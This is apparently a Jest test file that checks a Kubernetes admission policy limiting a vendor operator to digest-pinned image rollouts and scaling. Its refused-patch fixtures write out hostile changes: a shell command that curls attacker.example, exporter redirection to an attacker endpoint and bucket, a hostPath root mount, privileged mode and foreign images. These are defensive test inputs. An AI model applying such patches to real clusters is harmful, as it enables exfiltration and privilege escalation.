/**
 * The admission policy of the operator access chart, evaluated as rendered with a real CEL implementation against
 * admission requests shaped as the API server sends them (stored objects with server defaults, old and new object,
 * the user's groups): the operator's allowed changes pass, every other change is refused, and nobody else is affected.
 */
import { containerPatch } from '../../control-plane/fleet/kubernetes-workloads';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as ts from 'typescript';
import { App } from 'cdk8s';
import { OperatorAccessChart } from '../../lib/charts/operator-access-chart';
import {
  FIXED_AUTOSCALER_SPEC_FIELDS, FIXED_CONTAINER_FIELDS, FIXED_DAEMON_SET_SPEC_FIELDS, FIXED_POD_SPEC_FIELDS, FIXED_STATEFUL_SET_SPEC_FIELDS,
  MUTABLE_CONTAINER_FIELDS, digestPattern,
} from '../../lib/charts/operator-admission-policy';
import { evaluateAdmission, type AdmissionRequest } from '../support/admission-policy';
import { applyJsonPatch, type JsonPatchOperation } from '../support/json-patch';
import { RELEASE_REPOSITORY, digestOf, releaseImage, serverUpdate, sightlineWorkloads } from '../support/kubernetes-objects';

const OPERATOR = { username: 'arn:aws:sts::111122223333:assumed-role/sightline-operator/rollout-r-42', uid: 'aws-iam-authenticator:111122223333:AROAEXAMPLE', groups: ['sightline-operators', 'system:authenticated'] };
const CUSTOMER = { username: 'arn:aws:sts::111122223333:assumed-role/PlatformAdmin/jane', groups: ['platform-admins', 'system:authenticated'] };

const policyOf = (workloads: Array<'gateway' | 'sensor'>) =>
  new OperatorAccessChart(new App(), 'access', { releaseRepository: RELEASE_REPOSITORY, workloads, maxReplicas: 20 }).toJson()
    .find((object: any) => object.kind === 'ValidatingAdmissionPolicy');
const bothPolicy = policyOf(['gateway', 'sensor']);

const resources = {
  StatefulSet: { group: 'apps', version: 'v1', resource: 'statefulsets' },
  DaemonSet: { group: 'apps', version: 'v1', resource: 'daemonsets' },
  HorizontalPodAutoscaler: { group: 'autoscaling', version: 'v2', resource: 'horizontalpodautoscalers' },
  ConfigMap: { group: '', version: 'v1', resource: 'configmaps' },
} as const;

/** The UPDATE request of a JSON patch, as the API server hands it to validating admission. */
function patchRequest(stored: any, patch: JsonPatchOperation[], userInfo: AdmissionRequest['userInfo'] = OPERATOR): AdmissionRequest {
  const kind = stored.kind as keyof typeof resources;
  const [group, version] = stored.apiVersion.includes('/') ? stored.apiVersion.split('/') : ['', stored.apiVersion];
  return {
    uid: '705ab4f5-6393-11e8-b7cc-42010a800002',
    kind: { group, version, kind },
    resource: resources[kind],
    requestKind: { group, version, kind },
    requestResource: resources[kind],
    name: stored.metadata.name,
    namespace: stored.metadata.namespace,
    operation: 'UPDATE',
    userInfo,
    object: serverUpdate(stored, applyJsonPatch(stored, patch)),
    oldObject: stored,
    dryRun: false,
    options: { kind: 'PatchOptions', apiVersion: 'meta.k8s.io/v1', fieldManager: 'sightline-control-plane' },
  };
}

const container = '/spec/template/spec/containers/0';
let workloads: ReturnType<typeof sightlineWorkloads>;
beforeAll(() => {
  workloads = sightlineWorkloads(releaseImage('1.0.0'));
});

describe('the operator may', () => {
  test('roll the gateway and the sensor to an image of the release repository by digest', () => {
    for (const stored of [workloads.statefulSet, workloads.daemonSet]) {
      const decision = evaluateAdmission(bothPolicy, patchRequest(stored, [
        { op: 'test', path: `${container}/name`, value: stored.spec.template.spec.containers[0].name },
        { op: 'replace', path: `${container}/image`, value: releaseImage('1.1.0') },
      ]));
      expect(decision).toEqual({ allowed: true, messages: [] });
    }
  });

  test('move the credentials init container to the same release image, as the rollout patch does', () => {
    for (const stored of [workloads.statefulSet, workloads.daemonSet]) {
      expect(stored.spec.template.spec.initContainers.map((init: { name: string }) => init.name)).toEqual(['credentials']);
      const decision = evaluateAdmission(bothPolicy, patchRequest(stored, containerPatch(stored, stored.kind === 'StatefulSet' ? 'gateway' : 'sensor', { image: releaseImage('1.1.0') })));
      expect(decision).toEqual({ allowed: true, messages: [] });
    }
  });

  test('change container resources and the StatefulSet replicas', () => {
    expect(evaluateAdmission(bothPolicy, patchRequest(workloads.daemonSet, [
      { op: 'replace', path: `${container}/resources`, value: { requests: { cpu: '200m', memory: '384Mi' }, limits: { memory: '768Mi' } } },
    ]))).toEqual({ allowed: true, messages: [] });
    expect(evaluateAdmission(bothPolicy, patchRequest(workloads.statefulSet, [{ op: 'replace', path: '/spec/replicas', value: 4 }])).allowed).toBe(true);
  });

  test('set the HPA bounds within 1 <= min <= max <= the ceiling', () => {
    const bounds = (min: number, max: number) => evaluateAdmission(bothPolicy, patchRequest(workloads.autoscaler, [
      { op: 'replace', path: '/spec/minReplicas', value: min }, { op: 'replace', path: '/spec/maxReplicas', value: max },
    ]));
    expect(bounds(3, 15)).toEqual({ allowed: true, messages: [] });
    expect(bounds(3, 21).messages).toEqual([expect.stringContaining('maxReplicas <= 20')]);
    expect(bounds(8, 5).allowed).toBe(false);
    expect(bounds(0, 5).allowed).toBe(false);
  });

  test('scale the StatefulSet through its scale subresource, up to the ceiling', () => {
    const scale = (replicas: number): AdmissionRequest => ({
      uid: 'u', kind: { group: 'autoscaling', version: 'v1', kind: 'Scale' }, resource: resources.StatefulSet, subResource: 'scale',
      name: 'sightline-gateway', namespace: 'sightline', operation: 'UPDATE', userInfo: OPERATOR,
      object: { apiVersion: 'autoscaling/v1', kind: 'Scale', metadata: { name: 'sightline-gateway', namespace: 'sightline' }, spec: { replicas }, status: { replicas: 2 } },
      oldObject: { apiVersion: 'autoscaling/v1', kind: 'Scale', metadata: { name: 'sightline-gateway', namespace: 'sightline' }, spec: { replicas: 2 }, status: { replicas: 2 } },
    });
    expect(evaluateAdmission(bothPolicy, scale(6)).allowed).toBe(true);
    expect(evaluateAdmission(bothPolicy, scale(21)).messages).toEqual(['the Sightline operator may set at most 20 replicas']);
  });
});

describe('the operator may not', () => {
  const refusedPatches: Array<[string, () => any, JsonPatchOperation[], RegExp]> = [
    ['change env (redirect the exporters)', () => workloads.statefulSet, [{ op: 'add', path: `${container}/env/-`, value: { name: 'SIGHTLINE_EXPORTERS_S3_BUCKET', value: 'attacker-bucket' } }], /env, args, command/],
    ['change args', () => workloads.daemonSet, [{ op: 'replace', path: `${container}/args`, value: ['sensor', '--config', '/tmp/evil.yaml', '--otlp-endpoint', 'https://collector.attacker.example'] }], /env, args, command/],
    ['set a command', () => workloads.statefulSet, [{ op: 'add', path: `${container}/command`, value: ['/bin/sh', '-c', 'curl attacker.example'] }], /env, args, command/],
    ['add a volume', () => workloads.daemonSet, [{ op: 'add', path: '/spec/template/spec/volumes/-', value: { name: 'root', hostPath: { path: '/' } } }], /volumes, service account/],
    ['mount a volume', () => workloads.statefulSet, [{ op: 'add', path: `${container}/volumeMounts/-`, value: { name: 'tmp', mountPath: '/etc/sightline' } }], /mounts/],
    ['change the service account', () => workloads.statefulSet, [{ op: 'replace', path: '/spec/template/spec/serviceAccountName', value: 'default' }], /service account/],
    ['use an image of another repository, even by digest', () => workloads.statefulSet, [{ op: 'replace', path: `${container}/image`, value: `docker.io/attacker/sightline@${digestOf('evil')}` }], /only set images from public\.ecr\.aws\/acme\/sightline, pinned by digest/],
    ['use the release repository by tag', () => workloads.daemonSet, [{ op: 'replace', path: `${container}/image`, value: `${RELEASE_REPOSITORY}:latest` }], /pinned by digest/],
    ['use a look-alike repository', () => workloads.daemonSet, [{ op: 'replace', path: `${container}/image`, value: `public.ecr.aws/acme/sightline-evil@${digestOf('x')}` }], /pinned by digest/],
    ['change the pod labels (NetworkPolicy selectors)', () => workloads.statefulSet, [{ op: 'add', path: '/spec/template/metadata/labels/role', value: 'egress-allowed' }], /pod template/],
    ['change the config checksum annotation', () => workloads.daemonSet, [{ op: 'replace', path: '/spec/template/metadata/annotations', value: {} }], /pod template/],
    ['run privileged', () => workloads.statefulSet, [{ op: 'replace', path: `${container}/securityContext`, value: { privileged: true } }], /security settings/],
    ['join the host network', () => workloads.statefulSet, [{ op: 'add', path: '/spec/template/spec/hostNetwork', value: true }], /host settings/],
    ['add an init container', () => workloads.daemonSet, [{ op: 'add', path: '/spec/template/spec/initContainers', value: [{ name: 'x', image: releaseImage('1.1.0') }] }], /may not add or remove one/],
    ['give the credentials init container another command', () => workloads.daemonSet, [{ op: 'replace', path: '/spec/template/spec/initContainers/0/args', value: ['sh', '-c', 'curl evil'] }], /image and resources of an init container/],
    ['run the init container from a foreign image', () => workloads.statefulSet, [{ op: 'replace', path: '/spec/template/spec/initContainers/0/image', value: 'docker.io/evil/tool@sha256:' + '1'.repeat(64) }], /only set images from/],
    ['add a container', () => workloads.statefulSet, [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'sidecar', image: releaseImage('1.1.0') } }], /image and resources of a container/],
    ['change the update strategy', () => workloads.daemonSet, [{ op: 'replace', path: '/spec/updateStrategy', value: { type: 'OnDelete' } }], /only container images and resources of the DaemonSet/],
    ['change the volume claims', () => workloads.statefulSet, [{ op: 'replace', path: '/spec/volumeClaimTemplates/0/spec/resources/requests/storage', value: '1Gi' }], /only replicas/],
    ['relabel the workload', () => workloads.statefulSet, [{ op: 'add', path: '/metadata/labels/owner', value: 'vendor' }], /labels, annotations/],
    ['hand the workload to another owner', () => workloads.daemonSet, [{ op: 'add', path: '/metadata/ownerReferences', value: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'y' }] }], /owner references/],
    ['change the HPA metrics', () => workloads.autoscaler, [{ op: 'replace', path: '/spec/metrics/0/resource/target/averageUtilization', value: 5 }], /only the HorizontalPodAutoscaler's bounds/],
  ];
  test.each(refusedPatches)('%s', (_what, stored, patch, message) => {
    const decision = evaluateAdmission(bothPolicy, patchRequest(stored(), patch));
    expect(decision.allowed).toBe(false);
    expect(decision.messages.join('\n')).toMatch(message);
    // Refused by a rule that evaluated to false, not by a rule that could not be evaluated.
    expect(decision.messages.join('\n')).not.toMatch(/evaluation error/);
  });

  test('touch anything else: the config, another workload, exec, delete, or another API version', () => {
    const configChange = patchRequest(workloads.configMap, [{ op: 'replace', path: '/data/config.yaml', value: 'exporters: {}' }]);
    expect(evaluateAdmission(bothPolicy, configChange).messages).toEqual([expect.stringMatching(/^the Sightline operator may only update/)]);
    const other = structuredClone(workloads.statefulSet);
    other.metadata.name = 'payments-api';
    expect(evaluateAdmission(bothPolicy, patchRequest(other, [{ op: 'replace', path: `${container}/image`, value: releaseImage('1.1.0') }])).allowed).toBe(false);
    const exec: AdmissionRequest = {
      uid: 'u', kind: { group: '', version: 'v1', kind: 'PodExecOptions' }, resource: { group: '', version: 'v1', resource: 'pods' }, subResource: 'exec',
      name: 'sightline-gateway-0', namespace: 'sightline', operation: 'CONNECT', userInfo: OPERATOR,
      object: { kind: 'PodExecOptions', apiVersion: 'v1', command: ['cat', '/var/lib/sightline/spool/s3/0001'], container: 'gateway', stdout: true }, oldObject: null,
    };
    expect(evaluateAdmission(bothPolicy, exec).allowed).toBe(false);
    const remove = { ...patchRequest(workloads.statefulSet, []), operation: 'DELETE' as const, object: null };
    expect(evaluateAdmission(bothPolicy, remove).allowed).toBe(false);
    const v1Autoscaler = { ...patchRequest(workloads.autoscaler, [{ op: 'replace', path: '/spec/maxReplicas', value: 12 }]), resource: { group: 'autoscaling', version: 'v1', resource: 'horizontalpodautoscalers' } };
    expect(evaluateAdmission(bothPolicy, v1Autoscaler).allowed).toBe(false);
  });

  test('reach the gateway in a cluster that opened only the sensor', () => {
    const sensorOnly = policyOf(['sensor']);
    expect(evaluateAdmission(sensorOnly, patchRequest(workloads.statefulSet, [{ op: 'replace', path: `${container}/image`, value: releaseImage('1.1.0') }])).allowed).toBe(false);
    expect(evaluateAdmission(sensorOnly, patchRequest(workloads.daemonSet, [{ op: 'replace', path: `${container}/image`, value: releaseImage('1.1.0') }])).allowed).toBe(true);
  });
});

test('customers, CI and controllers are not affected: the same changes by another identity pass', () => {
  const changes: Array<[any, JsonPatchOperation[]]> = [
    [workloads.statefulSet, [{ op: 'add', path: `${container}/env/-`, value: { name: 'LOG_LEVEL', value: 'debug' } }]],
    [workloads.daemonSet, [{ op: 'replace', path: `${container}/image`, value: 'registry.example.com/sightline:custom' }]],
    [workloads.statefulSet, [{ op: 'replace', path: '/spec/template/spec/serviceAccountName', value: 'custom' }]],
    [workloads.daemonSet, [{ op: 'add', path: '/spec/template/spec/volumes/-', value: { name: 'extra', emptyDir: {} } }]],
    [workloads.configMap, [{ op: 'replace', path: '/data/config.yaml', value: 'exporters: {}' }]],
  ];
  for (const [stored, patch] of changes) {
    expect(evaluateAdmission(bothPolicy, patchRequest(stored, patch, CUSTOMER))).toEqual({ allowed: true, messages: [] });
    expect(evaluateAdmission(bothPolicy, patchRequest(stored, patch, OPERATOR)).allowed).toBe(false);
  }
  // A request with no groups at all (a bare service account token) is not the operator either.
  expect(evaluateAdmission(bothPolicy, patchRequest(workloads.configMap, [], { username: 'system:serviceaccount:x:y' })).allowed).toBe(true);
});

test('the digest pattern matches exactly one repository, by digest', () => {
  const pattern = new RegExp(digestPattern(RELEASE_REPOSITORY));
  expect(pattern.test(releaseImage('2.0.0'))).toBe(true);
  expect(pattern.test(`publicXecr.aws/acme/sightline@${digestOf('a')}`)).toBe(false);
  expect(pattern.test(`${RELEASE_REPOSITORY}@${digestOf('a')}x`)).toBe(false);
  expect(() => digestPattern('Not A Repository')).toThrow(/is not an image repository/);
});

/** Property names of the exported interface `I<name>` in a kubernetes-models type definition file. */
function apiFields(file: string, name: string): string[] {
  const fullPath = path.join(path.dirname(require.resolve('kubernetes-models/package.json')), file);
  const source = ts.createSourceFile(fullPath, fs.readFileSync(fullPath, 'utf8'), ts.ScriptTarget.Latest, true);
  const declaration = source.statements.find((statement): statement is ts.InterfaceDeclaration => ts.isInterfaceDeclaration(statement) && statement.name.text === `I${name}`);
  if (declaration === undefined) throw new Error(`no interface I${name} in ${file}`);
  return declaration.members.map((member) => (member.name as ts.StringLiteral).text);
}

test('the field lists cover every field of the Kubernetes API types, so "unchanged" leaves nothing out', () => {
  // Fields newer than the API version of kubernetes-models, checked too where a cluster has them.
  const newer = ['hostnameOverride', 'workloadRef', 'restartPolicyRules'];
  const covered = (fields: string[], listed: readonly string[], mutable: readonly string[]) => {
    expect(fields.filter((field) => !listed.includes(field) && !mutable.includes(field))).toEqual([]);
    expect(listed.filter((field) => !fields.includes(field) && !newer.includes(field))).toEqual([]);
  };
  covered(apiFields('v1/PodSpec.d.ts', 'PodSpec'), FIXED_POD_SPEC_FIELDS, ['containers', 'initContainers']);
  covered(apiFields('v1/Container.d.ts', 'Container'), FIXED_CONTAINER_FIELDS, MUTABLE_CONTAINER_FIELDS);
  covered(apiFields('apps/v1/StatefulSetSpec.d.ts', 'StatefulSetSpec'), FIXED_STATEFUL_SET_SPEC_FIELDS, ['replicas', 'template']);
  covered(apiFields('apps/v1/DaemonSetSpec.d.ts', 'DaemonSetSpec'), FIXED_DAEMON_SET_SPEC_FIELDS, ['template']);
  covered(apiFields('autoscaling/v2/HorizontalPodAutoscalerSpec.d.ts', 'HorizontalPodAutoscalerSpec'), FIXED_AUTOSCALER_SPEC_FIELDS, ['minReplicas', 'maxReplicas']);
  expect(apiFields('v1/PodTemplateSpec.d.ts', 'PodTemplateSpec').sort()).toEqual(['metadata', 'spec']);
});
